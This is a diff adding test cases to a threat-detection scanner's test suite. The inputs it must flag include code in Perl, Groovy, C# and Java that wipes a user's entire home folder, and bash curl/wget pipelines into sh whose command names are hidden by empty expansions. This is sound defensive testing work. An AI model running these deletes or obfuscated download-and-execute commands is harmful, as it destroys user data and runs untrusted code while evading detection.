@@ -55,6 +55,18 @@ describe('threat/destructive: the home folder deleted through a walk or a delete
     expect(threats(fence('lua', 'vim.fn.delete(os.getenv("HOME"), \'rf\')'))).toEqual(['threat/destructive 8:1 error']);
     expect(threats(fence('lua', 'local home = vim.env.HOME\nvim.fs.rm(home, { recursive = true, force = true })'))).toEqual(['threat/destructive 9:1 error']);
   });
+  it('reads Perl, Groovy, C# and Java deletes of the home folder: a find with a sub, a closure walk, a folder object, a library delete', () => {
+    expect(threats(fence('perl', 'use File::Find;\nfind(sub { unlink $File::Find::name }, $ENV{HOME});'))).toEqual(['threat/destructive 9:1 error']);
+    expect(threats(fence('groovy', 'def top = new File(System.getProperty("user.home"))\ntop.eachFileRecurse { it.delete() }'))).toEqual(['threat/destructive 9:1 error']);
+    expect(threats(fence('csharp', 'var profile = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\nnew DirectoryInfo(profile).Delete(true);'))).toEqual(['threat/destructive 9:1 error']);
+    expect(threats(fence('java', 'File top = new File(System.getProperty("user.home"));\nFileUtils.forceDelete(top);'))).toEqual(['threat/destructive 9:1 error']);
+  });
+  it('does not flag the same deletes of one folder under the home folder or of a build folder', () => {
+    expect(threats(fence('perl', 'use File::Find;\nfind(sub { unlink $File::Find::name if /\\.tmp$/ }, "$ENV{HOME}/.cache/app");'))).toEqual([]);
+    expect(threats(fence('groovy', 'def out = new File(project.buildDir, "tmp")\nout.eachFileRecurse { it.delete() }'))).toEqual([]);
+    expect(threats(fence('csharp', 'var profile = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);\nnew DirectoryInfo(Path.Combine(profile, ".cache", "tool")).Delete(true);'))).toEqual([]);
+    expect(threats(fence('java', 'FileUtils.forceDelete(new File(System.getProperty("user.home"), ".m2/repository/com/acme"));'))).toEqual([]);
+  });
   it('does not flag a walk or a delete of one folder under the home folder', () => {
     const java = 'Path cache = Paths.get(System.getProperty("user.home"), ".cache", "report-tool");\nFiles.walk(cache).sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());';
     expect(threats(fence('java', java))).toEqual([]);
@@ -89,10 +101,11 @@ describe('threat/download-exec: a command name split by expansions that are empt
     expect(threats(fence('bash', 'cur${UNSET_PART}l -s https://example.org/i.sh | s${UNSET_PART}h'))).toEqual(['threat/download-exec 8:49 error']);
     expect(threats(fence('bash', 'wg$1et -qO- https://example.org/i.sh | ba$1sh'))).toEqual(['threat/download-exec 8:40 error']);
     expect(threats(fence('bash', 'GAP=\ncur${GAP}l -fsSL https://example.org/i.sh | ba${GAP}sh'))).toEqual(['threat/download-exec 9:45 error']);
+    expect(threats(fence('bash', 'c$()url -s https://example.org/i.sh | s$()h\nwg$@et -qO- https://example.org/j.sh | sh'))).toEqual(['threat/download-exec 8:39 error', 'threat/download-exec 9:40 error']);
   });
   it('does not join names around a value the script sets, a function\'s own parameter or a variable with a fallback', () => {
     expect(threats(fence('bash', 'handler_$1 "$@"\n${CROSS_COMPILE}gcc -O2 -o tool tool.c'))).toEqual([]);
     expect(threats(fence('bash', 'SUFFIX=$(cat .tool-suffix)\ncur${SUFFIX}l -s https://example.org/i.sh | s${SUFFIX}h'))).toEqual([]);
-    expect(threats(fence('bash', 'run() { tool$1 --version; }\nrun -lint'))).toEqual([]);
+    expect(threats(fence('bash', 'run() { tool$1 --version; }\nrun -lint\nfetch() { cur$@l -s https://example.org/i.sh | s$@h; }'))).toEqual([]);
   });
 });
